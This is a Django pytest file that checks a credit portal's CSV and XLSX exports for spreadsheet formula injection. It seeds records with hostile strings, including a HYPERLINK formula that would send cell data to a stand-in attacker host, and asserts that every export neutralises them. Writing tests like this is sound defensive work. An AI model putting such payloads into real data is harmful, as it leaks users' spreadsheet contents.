"""CSV/XLSX formula injection (OWASP "CSV injection"): no export lets a spreadsheet evaluate user text.

The demo portfolio is loaded, then customer names, user names and audit events are given hostile text
(``=HYPERLINK(...)``, ``=1+1``, ``+1``, ``-1``, ``@SUM``, a leading tab or carriage return). Every list that
exports (the audit trail included) is downloaded as CSV and XLSX: no text cell starts with a formula trigger
(CSV: it starts with ``'``), no XLSX cell is a formula, and numbers stay numbers.
"""
import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from creditportal.core import lists
from tests.creditportal.test_list_exports import LISTS
from tests.exports import body_of

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1",
           "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# where the aging export lives (it is not a ?export= list)
EXTRA = [("collection:aging_csv", "csv"), ("collection:aging_xlsx", "xlsx")]


@pytest.fixture
def hostile(settings, tmp_path):
    from django.contrib.auth import get_user_model

    from audit.services import audit_record
    from customers.models import Customer

    settings.MEDIA_ROOT = str(tmp_path)
    call_command("load_demo", "--small", stdout=io.StringIO())
    for i, pk in enumerate(Customer.objects.order_by("pk").values_list("pk", flat=True)):
        # test set-up written around the services on purpose: the data an attacker would have typed in
        Customer.objects.filter(pk=pk).update(name=f"{HOSTILE[i % len(HOSTILE)]} {i}")
    users = get_user_model().objects
    for i, user in enumerate(users.order_by("pk")):
        users.filter(pk=user.pk).update(first_name=HOSTILE[i % len(HOSTILE)], last_name=HOSTILE[-1 - i % 7])
    for text in HOSTILE:
        audit_record(actor=users.get(username="rm"), action="update", verb=text, object_type=text,
                     object_id=text, object_repr=text, after={"name": text})
    return users


def _exporter(users, perm):
    for name in ("auditor", "riskadmin", "analyst", "rm", "collector", "approver1"):
        user = users.get(username=name)
        if user.has_perm(perm):
            return user
    raise AssertionError(f"no demo user may export with {perm}")


NUMBER = re.compile(r"-\d+(\.\d+)?")


def _csv_cells(data):
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(data):
    book = load_workbook(io.BytesIO(data))  # not read-only: the cells keep their data_type
    return [cell for row in book.worksheets[0].iter_rows() for cell in row]


def _check(response, fmt, where):
    assert response.status_code == 200, (where, response.status_code)
    data = body_of(response)
    neutralised = 0
    if fmt == "csv":
        for cell in _csv_cells(data):
            # a negative number (days left after a deadline, a shift of the payment pattern) is a number, no formula
            assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), (where, cell)
            neutralised += any(cell.startswith("'" + h) for h in HOSTILE)
    else:
        for cell in _xlsx_cells(data):
            assert cell.data_type != "f", (where, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(TRIGGERS), (where, cell.value)
                neutralised += any(cell.value.startswith("'" + h.replace("\r", "")) for h in HOSTILE)
    return neutralised


def test_every_export_neutralises_formulas(client, hostile):
    reached = {}
    for url_name, perm, _label in LISTS:
        client.force_login(_exporter(hostile, perm))
        for fmt in ("csv", "xlsx"):
            response = client.get(reverse(url_name), {"export": fmt}, HTTP_ACCEPT_LANGUAGE="en")
            reached[(url_name, fmt)] = _check(response, fmt, (url_name, fmt))
    client.force_login(_exporter(hostile, "collection.view_invoice"))
    for url_name, fmt in EXTRA:
        reached[(url_name, fmt)] = _check(client.get(reverse(url_name)), fmt, url_name)
    # the hostile text did reach the files (else the test would prove nothing): every list carries some of
    # it, neutralised (the demo has no write-off)
    missing = {key for key, count in reached.items() if count == 0}
    assert missing <= {("collection:writeoff_list", "csv"), ("collection:writeoff_list", "xlsx")}, missing


def test_numbers_stay_numbers_and_only_text_is_quoted():
    assert lists.safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert lists.safe_cell(-3) == -3
    assert lists.safe_cell("-3") == "'-3"
    assert lists.safe_cell("A-1") == "A-1"
    assert lists.safe_cell("") == ""
    response = lists.xlsx_response(["=header", "amount"], [["=1+1", Decimal("-5.00")], ["\x01@x", 7]], "f", "t")
    cells = _xlsx_cells(response.content)
    assert [(c.value, c.data_type) for c in cells] == [
        ("'=header", "s"), ("amount", "s"), ("'=1+1", "s"), (-5, "n"), ("'@x", "s"), (7, "n")]
    body = b"".join(lists.csv_response(["h"], [["+1"], [Decimal("-1.50")]], "f").streaming_content)
    assert _csv_cells(body) == ["h", "'+1", "-1.50"]
